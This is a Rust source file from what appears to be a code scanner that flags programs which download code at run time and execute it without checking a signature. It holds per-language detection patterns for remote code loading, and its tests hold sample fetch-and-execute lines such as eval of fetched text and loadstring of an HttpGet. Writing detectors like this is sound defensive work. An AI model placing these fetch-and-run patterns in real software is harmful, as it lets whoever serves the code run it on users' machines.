//! Programs that fetch code while they run, and run it: whoever serves it does what they like on the machines of all who have the program.

use super::lists::{holds, is};
use super::source::{form, is_comment, is_tried};

/// How a language loads code that it has as bytes or as an address, without blanks, and how it gets them; one of each must stand in the text.
const LOADS: &[(&str, &str, &str)] = &[
    (
        "cs",
        "Assembly.Load(|AppDomain.CurrentDomain.Load(|Assembly.UnsafeLoadFrom(|CSharpScript.EvaluateAsync(",
        "DownloadData(|GetByteArrayAsync(|WebClient(|HttpClient|UnityWebRequest.Get(|GetStringAsync(|DownloadString(",
    ),
    (
        "java|kt|kts|groovy|scala",
        "URLClassLoader(|DexClassLoader(|InMemoryDexClassLoader(|defineClass(|GroovyShell().evaluate(|PathClassLoader(",
        "http://|https://|openStream()|HttpURLConnection|OkHttpClient|HttpClient",
    ),
    ("lua|luau", "loadstring(|load(|require(", "HttpGet(|:HttpGetAsync(|http.request(|http.get(|PerformHttpRequest("),
    (
        "js|mjs|cjs|ts|tsx|jsx",
        "eval(await|newFunction(await|vm.runInThisContext(await|(0,eval)(await|import('http://|import(\"http://|importScripts('http://|importScripts(\"http://",
        "fetch(|axios|http://|got(|https.get",
    ),
    ("rb", "eval(URI|eval(Net::HTTP|eval(open(|instance_eval(URI|instance_eval(Net|eval(HTTP|eval(Faraday", "http"),
    (
        "php",
        "eval(file_get_contents('http|eval(file_get_contents(\"http|include'http|include\"http|require'http|eval(\"?>\".file_get_contents|eval('?>'.file_get_contents|include('http|include(\"http",
        "http",
    ),
    ("go", "plugin.Open(|yaegi|goja", "http.Get("),
    (
        "swift|m|mm|c|cc|cpp|rs",
        "dlopen(|Library::new(|LoadLibrary",
        "http://|curl_easy_perform|URLSession|reqwest::|dataWithContentsOfURL|URLDownloadToFile",
    ),
    ("gd", "load_resource_pack(|GDScript.new()|.source_code=", "HTTPRequest|HTTPClient"),
    (
        "py",
        "exec(requests.get(|exec(urlopen(|exec(urllib|exec(httpx.get(|eval(requests.get(|exec(compile(requests.get(|marshal.loads(requests|\
            pickle.loads(requests.get(|pickle.loads(urlopen|pickle.load(urlopen|exec(urllib.request.urlopen",
        "http|request|url",
    ),
];

/// A part of each of these, by which most texts are told to hold none.
const HINTS: &str = "eval|Function(|import(|importScripts|runInThisContext|Assembly|CurrentDomain|ClassLoader|defineClass|loadstring|load(|\
    plugin.Open|yaegi|goja|dlopen|Library|exec(|pickle|marshal|include|require|GDScript|load_resource|source_code|EvaluateAsync|GroovyShell";

/// What a program does before it believes what it fetched.
const VERIFIES: &str = "verify|Verify|signature|Signature|sha256|SHA256|Sha256|checksum|Checksum|StrongName|PublicKeyToken|ed25519|integrity|\
    VerifyHash|digest|X509";

/// Whether a text runs what it fetches without a look at who made it, where the text before it did not.
pub(super) fn are_unread(text: &str, before: Option<&str>, path: &str) -> bool {
    let of = form(path);
    let Some((_, loads, gets)) = LOADS.iter().find(|(forms, _, _)| is(of, forms)) else { return false };
    if !holds(text, HINTS) || !holds(text, gets) || is_tried(path) {
        return false;
    }
    let loads = |text: &str| {
        let dense: String = text
            .lines()
            .filter(|line| !is_comment(line))
            .flat_map(str::chars)
            .filter(|char| !char.is_whitespace())
            .collect();
        holds(&dense, loads)
            && (of != "lua" && of != "luau"
                || holds(
                    &dense,
                    "loadstring(game:HttpGet|load(http|loadstring(http|loadstring(body|load(body|loadstring(syn|loadstring(res|load(res|assert(load(|HttpGet(",
                ))
            && !holds(text, VERIFIES)
    };
    loads(text) && !before.is_some_and(loads)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn code_that_is_fetched_and_run_is_seen() {
        for (name, text, unread) in [
            ("Mods.cs", "var raw = new WebClient().DownloadData(url);\nvar a = Assembly.Load(raw);", true),
            ("Mods.cs", "var a = Assembly.Load(\"Shop.Core\");", false),
            ("Mods.cs", "var raw = client.DownloadData(url);\nVerifySignature(raw);\nAssembly.Load(raw);", false),
            ("Mods.java", "new URLClassLoader(new URL[] { new URL(\"http://mods.example/a.jar\") });", true),
            ("boot.lua", "loadstring(game:HttpGet('https://x.example/a.lua'))()", true),
            ("a.ts", "const m = await import('./local');\nawait fetch('/api');", false),
            ("a.ts", "eval(await (await fetch(url)).text());", true),
        ] {
            assert_eq!(are_unread(text, None, &format!("/home/you/work/shop/src/{name}")), unread, "{text}");
        }
    }
}
